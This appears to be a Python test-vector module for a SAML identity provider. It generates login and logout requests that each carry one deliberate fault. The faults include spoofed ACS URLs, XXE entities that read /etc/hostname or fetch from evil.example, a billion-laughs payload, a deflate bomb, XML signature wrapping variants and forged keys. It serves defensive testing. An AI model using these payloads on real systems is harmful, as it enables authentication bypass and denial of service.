"""Requests at the identity provider that must bring nobody an assertion, and logouts that must end no session.

Each starts from one that is good, and has one fault, in each way in which a message can come. Nothing here is sent:
`wire` gives what goes over the wire, and `tests/attacks/test_saml_requests.py` sends it.
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field, replace
from datetime import timedelta
from urllib.parse import quote

from broker.wire.saml.names import RSA_SHA256
from tests.builders import NOW
from tests.saml_party import Message, Party, deflated, key_of, logout_message, stamp

CANTEEN = Party()
SIGNS = Party("bourses")
"""A party whose metadata says that its requests are signed."""
Sent = tuple[str, str, str | None]
"""Method, target, and the body of a form or envelope; None: no body."""


@dataclass(frozen=True, slots=True)
class SamlVector:
    """One request. `sent`: what goes over the wire, told the name and index of the session it could end."""

    id: str
    sent: Callable[[str, str], Sent]


@dataclass(frozen=True, slots=True)
class Fault:
    """One thing that is wrong with a message."""

    name: str
    attributes: Mapping[str, str | None] = field(default_factory=dict)
    children: str = ""
    issuer: str = ""
    sender: str = ""


def encoded_form(**fields: str) -> str:
    return "&".join(f"{name}={quote(value, safe='')}" for name, value in fields.items())


# ---- faults of what a request says --------------------------------------------------------------------------------


def spoilt_addresses() -> Iterator[str]:
    """Addresses that are nearly the registered one."""
    good = CANTEEN.acs
    yield from (
        good + "/", good + "?", good + "#", good + "?x=1", good + "#x", good + "%20", good + "%00", good + ";x",
        good.upper(), good.replace("https", "http"), good.replace("https", "HTTPS"), good.replace("cantine", "Cantine"),
        good.replace("cantine.example", "cantine.example:443"), good.replace("cantine.example", "cantine.example:8443"),
        good.replace("cantine.example", "cantine.example."), good.replace("cantine.example", "x@cantine.example"),
        good.replace("cantine.example", "cantine.example@evil.example"), good.replace("cantine", "evil"),
        good.replace("cantine.example", "evil.example/cantine.example"), good.replace("/saml", "//saml"),
        good.replace("/saml", "/./saml"), good.replace("/saml", "/x/../saml"), good.replace("/saml", "/%73aml"),
        good.replace("/saml", "/saml/"), good.replace("/acs", "/ACS"), good.replace("/acs", "/slo"),
        good.replace("/acs", ""), good[:-1], good + "x", "https://evil.example/", "//cantine.example/saml/acs",
        "/saml/acs", "javascript:alert(1)", "data:text/html,x", "https:cantine.example/saml/acs", SIGNS.acs,
        good.replace("https://", "https:///"), good.replace("https://", "https:\\\\"), good.replace(".", "%2E"),
        good + "/2/", good + "/3", good.replace("example", "ex\u0430mple"), f"{good},{good}", f"{good} {good}",
    )  # fmt: skip


def sso_faults() -> Iterator[Fault]:
    """Everything that a login request can get wrong, whoever signs it."""
    for place, address in enumerate(spoilt_addresses()):
        yield Fault(f"acs {place}", {"AssertionConsumerServiceURL": address})
    for index in ("1", "3", "4", "99", "65535"):
        yield Fault(f"acs index {index}", {"AssertionConsumerServiceIndex": index})
    for index in ("0", "2"):
        both = {"AssertionConsumerServiceIndex": index, "AssertionConsumerServiceURL": CANTEEN.acs}
        yield Fault(f"acs index {index} and address", both)
        yield Fault(
            f"acs index {index} and binding", {"AssertionConsumerServiceIndex": index, "ProtocolBinding": _POST}
        )
    for name in ("HTTP-Redirect", "HTTP-Artifact", "SOAP", "PAOS", "HTTP-POST-SimpleSign", "http-post"):
        yield Fault(f"binding {name}", {"ProtocolBinding": f"urn:oasis:names:tc:SAML:2.0:bindings:{name}"})
    yield from _envelope_faults("/saml/sso")
    for name in ("emailAddress", "X509SubjectName", "WindowsDomainQualifiedName"):
        form = f"urn:oasis:names:tc:SAML:1.1:nameid-format:{name}"
        yield Fault(f"format {name}", children=f'<samlp:NameIDPolicy Format="{form}"/>')
    for name in ("kerberos", "entity", "encrypted", "Persistent"):
        form = f"urn:oasis:names:tc:SAML:2.0:nameid-format:{name}"
        yield Fault(f"format {name}", children=f'<samlp:NameIDPolicy Format="{form}"/>')
    for place, other in enumerate((SIGNS.entity_id, "https://evil.example", CANTEEN.entity_id + "/", "x")):
        yield Fault(f"qualifier {place}", children=f'<samlp:NameIDPolicy SPNameQualifier="{other}"/>')
    yield Fault("subject without a name", children=f"<saml:Subject>{_CONFIRMED}</saml:Subject>")
    for place, word in enumerate(("urn:x", "urn:oasis:names:tc:SAML:2.0:ac:classes:X509", "low", "strong", "eidas9")):
        yield Fault(f"context {place}", children=_context(word))


_POST = "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST"
_CONFIRMED = '<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"/>'


def _context(word: str) -> str:
    inner = f"<saml:AuthnContextClassRef>{word}</saml:AuthnContextClassRef>"
    return f"<samlp:RequestedAuthnContext>{inner}</samlp:RequestedAuthnContext>"


def _envelope_faults(path: str) -> Iterator[Fault]:
    """What any message can get wrong: where to, when, from whom, in which shape."""
    good = CANTEEN.idp + path
    wrong = (
        good + "/", good + "?x", good + "#", good.upper(), good.replace("https", "http"), CANTEEN.idp, "/saml/sso", "x",
        good.replace("preau", "evil"), good.replace("preau.example", "preau.example:443"),
        good.replace("/saml", "//saml"), CANTEEN.idp + "/saml/metadata", CANTEEN.idp + "/saml/sso/resume",
        CANTEEN.acs, good[:-1],
    )  # fmt: skip
    for place, address in enumerate(wrong):
        yield Fault(f"destination {place}", {"Destination": address})
    for minutes in (10.1, 11, 15, 30, 60, 1440, 525600, 5256000):
        yield Fault(f"{minutes} minutes old", {"IssueInstant": _stamp(-minutes)})
    for minutes in (3.1, 4, 5, 10, 60, 1440, 525600, 52560000):
        yield Fault(f"{minutes} minutes ahead", {"IssueInstant": _stamp(minutes)})
    for place, text in enumerate(("", "2026-13-01T00:00:00Z", "2026-09-01", "hier", "2026-09-01T08:00:00+02:00", "0")):
        yield Fault(f"instant {place}", {"IssueInstant": text})
    for version in ("1.1", "2", "2.1", "", "02.0"):
        yield Fault(f"version {version}", {"Version": version})
    for place, text in enumerate((None, "", "1x", "a b", "-x", "x:y")):
        yield Fault(f"id {place}", {"ID": text})
    entity = CANTEEN.entity_id
    strangers = (
        entity + "/", entity.upper(), " " + entity, entity + " ", entity.replace("https", "http"), "https://evil.example",
        "cantine", "saml:cantine", entity[:-1], entity + "#", "x" * 2000, "urn:x", CANTEEN.idp + "/saml/metadata",
    )  # fmt: skip
    for place, issuer in enumerate(strangers):
        yield Fault(f"issuer {place}", issuer=issuer)
    for place, more in enumerate(_FOREIGN):
        yield Fault(f"foreign element {place}", children=more)
    for place, (name, value) in enumerate(_FOREIGN_ATTRIBUTES):
        yield Fault(f"foreign attribute {place}", {name: value})


_FOREIGN = (
    "<x/>", '<x xmlns="urn:x"/>', "<samlp:Extensions><x/></samlp:Extensions>", "<saml:Assertion/>", "texte",
    "<saml:Issuer>https://evil.example</saml:Issuer>", "<samlp:AuthnRequest/>", "<saml:NameID/>", "<!--x-->",
    "<?x y?>", "<![CDATA[x]]>", "<saml:Conditions/>", "<saml:EncryptedID/>", "<samlp:Status/>",
)  # fmt: skip
_FOREIGN_ATTRIBUTES = (
    ("x", "y"), ("Recipient", CANTEEN.acs), ("InResponseTo", "_x"), ("id", "_r1"), ("Id", "_r1"), ("xml:id", "_r1"),
    ("xsi:type", "x"), ("NotBefore", "2026-01-01T00:00:00Z"),
)  # fmt: skip


def _stamp(minutes: float) -> str:
    try:
        return stamp(NOW + timedelta(minutes=minutes))
    except OverflowError:
        return "9999-12-31T23:59:59Z"


# ---- faults of how a message comes --------------------------------------------------------------------------------


def _spoilt(message: Message, fault: Fault) -> Message:
    return replace(
        message,
        attributes={**message.attributes, **fault.attributes},
        children=fault.children or message.children if not message.children else message.children + fault.children,
        issuer=fault.issuer or message.issuer,
    )


def _redirected(message: Message, *, key: str = "") -> Sent:
    return "GET", f"{message.path}?{message.redirect(key=key_of(key) if key else None)}", None


def _posted(message: Message, *, key: str = "") -> Sent:
    return "POST", message.path, encoded_form(**message.form(key=key_of(key) if key else None))


def _soaped(message: Message, *, key: str = "") -> Sent:
    return "POST", "/saml/soap", message.envelope(key=key_of(key) if key else None)


Way = Callable[..., Sent]
SSO_WAYS: Mapping[str, tuple[Way, str]] = {
    "redirect": (_redirected, ""),
    "redirect signed": (_redirected, "cantine"),
    "post": (_posted, ""),
    "post signed": (_posted, "cantine"),
}
SLO_WAYS: Mapping[str, tuple[Way, str]] = {
    "redirect": (_redirected, "cantine"),
    "post": (_posted, "cantine"),
    "soap": (_soaped, "cantine"),
}


def sso_vectors() -> list[SamlVector]:
    """Every login request, each good but for one thing."""
    found = []
    for way, (send, key) in SSO_WAYS.items():
        for fault in sso_faults():
            if key and way.startswith("post") and _unsignable(fault):
                continue
            message = _spoilt(Message(), fault)
            found.append(SamlVector(f"sso {way}: {fault.name}", _constant(send, message, key)))
    found += [
        SamlVector(f"sso {name}", lambda _n, _i, sent=sent: sent) for name, sent in _carriage("/saml/sso", Message())
    ]
    found += [
        SamlVector("sso redirect: unsigned where they are signed", _constant(_redirected, Message(SIGNS), "")),
        SamlVector("sso post: unsigned where they are signed", _constant(_posted, Message(SIGNS), "")),
        SamlVector(
            "sso redirect: signed without a destination", _constant(_redirected, _nowhere(Message()), "cantine")
        ),
        SamlVector("sso post: signed without a destination", _constant(_posted, _nowhere(Message()), "cantine")),
    ]
    return found


def _nowhere(message: Message) -> Message:
    return replace(message, attributes={**message.attributes, "Destination": None})


def _constant(send: Way, message: Message, key: str) -> Callable[[str, str], Sent]:
    return lambda _name, _index: send(message, key=key)


def _unsignable(fault: Fault) -> bool:
    """No parser of ours could sign it: it is no XML, or has no usable ID."""
    broken = {"foreign attribute 5", "foreign attribute 6", "id 0", "id 1", "id 2", "id 3", "id 4", "id 5"}
    return fault.name in broken


def slo_vectors() -> list[SamlVector]:
    """Every logout request, each good but for one thing."""
    found = []
    for way, (send, key) in SLO_WAYS.items():
        path = "/saml/soap" if way == "soap" else "/saml/slo"
        for fault in _envelope_faults(path):
            if way != "redirect" and _unsignable(fault):
                continue
            found.append(SamlVector(f"slo {way}: {fault.name}", _ending(send, fault, key, path)))
        found += [
            SamlVector(f"slo {way}: {name}", _ending(send, Fault(name), key, path, told=told))
            for name, told in _OTHERS.items()
        ]
        for thief in ("", "bourses", "evil"):
            found.append(SamlVector(f"slo {way}: signed by '{thief}'", _ending(send, Fault("key"), thief, path)))
        for minutes in (3.1, 10, 60, 1440):
            over = Fault("over", {"NotOnOrAfter": _stamp(-minutes)})
            found.append(SamlVector(f"slo {way}: over for {minutes} minutes", _ending(send, over, key, path)))
    return found


Told = Callable[[str, str], tuple[str, str]]
_OTHERS: Mapping[str, Told] = {
    "another name": lambda name, index: ("un-autre", index),
    "no name": lambda name, index: ("", index),
    "the index for a name": lambda name, index: (index, index),
    "another index": lambda name, index: (name, "0" * 32),
    "the name for an index": lambda name, index: (name, name),
    "a name in capitals": lambda name, index: (name.upper() + "X", index),
    "half a name": lambda name, index: (name[:16], index),
    "half an index": lambda name, index: (name, index[:16]),
    "a wildcard": lambda name, index: ("%", index),
    "a name and a blank": lambda name, index: (f"{name} ", index),
    "the scoped name": lambda name, index: (f"{name}@preau.example", index),
}


def _ending(
    send: Way, fault: Fault, key: str, path: str, *, told: Told = lambda name, index: (name, index)
) -> Callable[[str, str], Sent]:
    def sent(name: str, index: str) -> Sent:
        message = logout_message(CANTEEN, *told(name, index), path=path)
        spoilt = replace(
            message, attributes={**message.attributes, **fault.attributes},
            children=fault.children + message.children, issuer=fault.issuer,
        )  # fmt: skip
        return send(spoilt, key=key)

    return sent


def _carriage(path: str, message: Message) -> Iterator[tuple[str, Sent]]:
    """A good message that comes in a bad way: parameters, encodings, signatures, XML that nobody should read."""
    good, query = message.xml(), message.redirect(key=CANTEEN.key)
    parts = query.split("&")
    for first in range(len(parts)):
        yield f"parameter {first} twice", ("GET", f"{path}?{query}&{parts[first]}", None)
        yield f"parameter {first} twice, before", ("GET", f"{path}?{parts[first]}&{query}", None)
        yield (
            f"parameter {first} empty",
            ("GET", f"{path}?{_with(parts, first, parts[first].partition('=')[0] + '=')}", None),
        )
        if first:
            yield (
                f"parameter {first} first",
                ("GET", f"{path}?{'&'.join([parts[first], *parts[:first], *parts[first + 1 :]])}", None),
            )
            yield f"parameter {first} gone", ("GET", f"{path}?{'&'.join(parts[:first] + parts[first + 1 :])}", None)
    for more in (
        "x=1",
        "SAMLResponse=x",
        "SAMLEncoding=x",
        "samlrequest=x",
        "SAMLRequest",
        "i=1",
        "%53AMLRequest=x",
        "&",
    ):
        yield f"and {more}", ("GET", f"{path}?{query}&{more}", None)
    unsigned = message.redirect()
    for algorithm in _ALGORITHMS:
        sent = message.redirect(key=CANTEEN.key, algorithm=algorithm)
        yield f"algorithm {algorithm}", ("GET", f"{path}?{sent}", None)
    for thief in ("bourses", "evil"):
        yield f"redirect signed by {thief}", ("GET", f"{path}?{message.redirect(key=key_of(thief))}", None)
        yield f"post signed by {thief}", ("POST", path, encoded_form(**message.form(key=key_of(thief))))
    for state in ("x", "https://evil.example", "%00", "a\nb"):
        yield (
            f"state {state!r} after the signature",
            ("GET", f"{path}?{query}&RelayState={quote(state, safe='')}", None),
        )
        within = query.replace("&SigAlg", f"&RelayState={quote(state, safe='')}&SigAlg")
        yield f"state {state!r} before the signature", ("GET", f"{path}?{within}", None)
    yield "a state that is too long", ("GET", f"{path}?{unsigned}&RelayState={'x' * 2049}", None)
    for place in range(0, 256, 16):
        yield f"signature bit {place}", ("GET", f"{path}?{_flipped(query, place)}", None)
    for name, xml in _xml_tricks(good.decode()):
        yield f"redirect of {name}", ("GET", f"{path}?SAMLRequest={quote(deflated(xml), safe='')}", None)
        yield f"post of {name}", ("POST", path, encoded_form(SAMLRequest=base64.b64encode(xml).decode()))
    yield from _encodings(path, good)
    yield from _wrapped(path, message)


_ALGORITHMS = (
    "http://www.w3.org/2000/09/xmldsig#rsa-sha1", "http://www.w3.org/2001/04/xmldsig-more#rsa-md5", "none", "x",
    "http://www.w3.org/2000/09/xmldsig#hmac-sha1", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
    "http://www.w3.org/2000/09/xmldsig#dsa-sha1", "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256",
    "http://www.w3.org/2001/04/xmldsig-more#rsa-sha512", RSA_SHA256 + "/", RSA_SHA256.upper(),
)  # fmt: skip


def _with(parts: list[str], place: int, part: str) -> str:
    return "&".join(part if here == place else each for here, each in enumerate(parts))


def _flipped(query: str, place: int) -> str:
    before, _, value = query.rpartition("Signature=")
    octets = bytearray(base64.b64decode(value.replace("%2B", "+").replace("%2F", "/").replace("%3D", "=")))
    octets[place] ^= 1
    return f"{before}Signature={quote(base64.b64encode(bytes(octets)).decode(), safe='')}"


def _xml_tricks(good: str) -> Iterator[tuple[str, bytes]]:
    """XML that can do something to its reader (security K-20 to K-24)."""
    yield "a document type", f"<!DOCTYPE x>{good}".encode()
    yield "an entity", f'<!DOCTYPE x [<!ENTITY e "x">]>{good}'.encode()
    yield "an external entity", f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>{good}'.encode()
    yield "a parameter entity", f'<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/">%e;]>{good}'.encode()
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "x" * 10}">' for n in range(8))
    yield "many laughs", f"<!DOCTYPE x [{laughs}]>{good}".encode()
    yield "a processing instruction", f"<?x y?>{good}".encode()
    yield "a style sheet", f'<?xml-stylesheet href="x"?>{good}'.encode()
    yield "a comment", f"<!--x-->{good}".encode()
    yield "a comment behind", f"{good}<!--x-->".encode()
    yield (
        "a comment in the issuer",
        good.replace("cantine.example/saml/metadata", "cantine.example<!--x-->/saml/metadata").encode(),
    )
    yield "CDATA in the issuer", good.replace(CANTEEN.entity_id, f"<![CDATA[{CANTEEN.entity_id}]]>").encode()
    yield "an element in the issuer", good.replace(CANTEEN.entity_id, f"<x>{CANTEEN.entity_id}</x>").encode()
    yield "two roots", (good + good).encode()
    yield "text behind", f"{good}x".encode()
    yield "nothing", b""
    yield "a blank", b" "
    yield "half", good.encode()[: len(good) // 2]
    yield "UTF-16", good.encode("utf-16")
    yield "UTF-7", f'<?xml version="1.0" encoding="UTF-7"?>{good}'.encode()
    yield "Latin-1", f'<?xml version="1.0" encoding="ISO-8859-1"?>{good}'.encode()
    yield "XML 1.1", f'<?xml version="1.1"?>{good}'.encode()
    yield "a NUL", good.encode() + b"\x00"
    yield "bytes that are no text", good.encode().replace(b"Issuer>", b"Issuer>\xff\xfe", 1)
    yield "depth", f"{'<x>' * 200}{good}{'</x>' * 200}".encode()
    yield "a megabyte", good.replace("</samlp", f"{' ' * 1_100_000}</samlp").encode()
    yield "another namespace", good.replace("SAML:2.0:protocol", "SAML:1.0:protocol").encode()
    yield "no namespace", good.replace("samlp:", "").encode()
    yield "another root", good.replace("AuthnRequest", "LogoutRequest").encode()
    yield "an answer", good.replace("AuthnRequest", "Response").encode()
    yield "an attribute twice", good.replace(' ID="', ' ID="_x" ID="').encode()
    yield "an ID twice", good.replace("<saml:Issuer>", '<saml:Issuer ID="_r1">').encode()


def _encodings(path: str, good: bytes) -> Iterator[tuple[str, Sent]]:
    plain, packed = base64.b64encode(good).decode(), deflated(good)
    texts = {
        "not base64": "%%%", "base64url": plain.replace("A", "-"), "no padding": plain.rstrip("=") + "A", "blank": " ",
        "XML itself": good.decode(), "base64 twice": base64.b64encode(plain.encode()).decode(), "NUL": plain + "\x00",
        "behind it": plain + "====x",
    }  # fmt: skip
    for name, text in texts.items():
        yield f"post {name}", ("POST", path, encoded_form(SAMLRequest=text))
        yield f"redirect {name}", ("GET", f"{path}?SAMLRequest={quote(text, safe='')}", None)
    yield "redirect not deflated", ("GET", f"{path}?SAMLRequest={quote(plain, safe='')}", None)
    yield "post deflated", ("POST", path, encoded_form(SAMLRequest=packed))
    zlibbed = base64.b64encode(zlib.compress(good)).decode()
    yield "redirect with a zlib head", ("GET", f"{path}?SAMLRequest={quote(zlibbed, safe='')}", None)
    bomb = deflated(good.replace(b"</samlp", b" " * 40_000_000 + b"</samlp"))
    yield "redirect of a bomb", ("GET", f"{path}?SAMLRequest={quote(bomb, safe='')}", None)
    cut = base64.b64encode(base64.b64decode(packed)[:-4]).decode()
    yield "redirect cut", ("GET", f"{path}?SAMLRequest={quote(cut, safe='')}", None)
    behind = base64.b64encode(base64.b64decode(packed) + b"x").decode()
    yield "redirect with bytes behind", ("GET", f"{path}?SAMLRequest={quote(behind, safe='')}", None)
    form = encoded_form(SAMLRequest=plain)
    for place, more in enumerate(("SAMLRequest=x", form, "SAMLResponse=x", "x=1", "Signature=x", "SigAlg=x")):
        yield f"post and {place}", ("POST", path, f"{form}&{more}")
    yield "an empty form", ("POST", path, "")
    yield "no query at all", ("GET", path, None)
    yield "post by its query", ("POST", f"{path}?{form}", "")


def _wrapped(path: str, message: Message) -> Iterator[tuple[str, Sent]]:
    """Signed once, then wrapped, so that what is verified and what is read might be two things (XSW)."""
    signed = message.xml(key=CANTEEN.key).decode()
    bare = signed[: signed.index("<ds:Signature")] + signed[signed.index("</ds:Signature>") + 15 :]
    signature = signed[signed.index("<ds:Signature") : signed.index("</ds:Signature>") + 15]
    evil = bare.replace('ID="_r1"', 'ID="_evil"')
    closed = evil[: evil.rindex("</samlp")], evil[evil.rindex("</samlp") :]
    with_object = signature.replace("</ds:Signature>", f"<ds:Object>{bare}</ds:Object></ds:Signature>")
    shapes = {
        "the good one inside": closed[0] + signed + closed[1],
        "the good one inside extensions": f"{closed[0]}<samlp:Extensions>{signed}</samlp:Extensions>{closed[1]}",
        "its signature moved": closed[0] + signature + closed[1],
        "its signature moved, the good one in an object": closed[0] + with_object + closed[1],
        "the good one before": closed[0].replace("<saml:Issuer", signed + "<saml:Issuer", 1) + closed[1],
        "the same ID": bare[: bare.rindex("</samlp")] + signed + bare[bare.rindex("</samlp") :],
        "two signatures": signed.replace("<ds:Signature", signature + "<ds:Signature", 1),
        "a signature of nothing": signed.replace('URI="#_r1"', 'URI=""'),
        "a signature of another": signed.replace('URI="#_r1"', 'URI="#_x"'),
        "a signature of a file": signed.replace('URI="#_r1"', 'URI="file:///etc/hostname"'),
        "another instant": signed.replace("IssueInstant=", 'ForceAuthn="false" IssueInstant='),
        "another digest": signed.replace("DigestValue>", "DigestValue>AAAA", 1),
        "SHA-1": signed.replace("xmlenc#sha256", "xmlenc#sha1"),
        "a transform": signed.replace("enveloped-signature", "base64"),
        "XSLT": signed.replace("xmldsig#enveloped-signature", "http://www.w3.org/TR/1999/REC-xslt-19991116"),
        "inclusive form": signed.replace("xml-exc-c14n#", "xml-c14n"),
        "with comments": signed.replace("xml-exc-c14n#", "xml-exc-c14n#WithComments"),
        "an HMAC": signed.replace(RSA_SHA256, "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"),
        "a key of its own": message.xml(key=key_of("evil")).decode(),
        "no value": signed[: signed.index("<ds:SignatureValue>")] + signed[signed.index("<ds:KeyInfo") :],
    }
    for name, xml in shapes.items():
        yield f"wrapped: {name}", ("POST", path, encoded_form(SAMLRequest=base64.b64encode(xml.encode()).decode()))
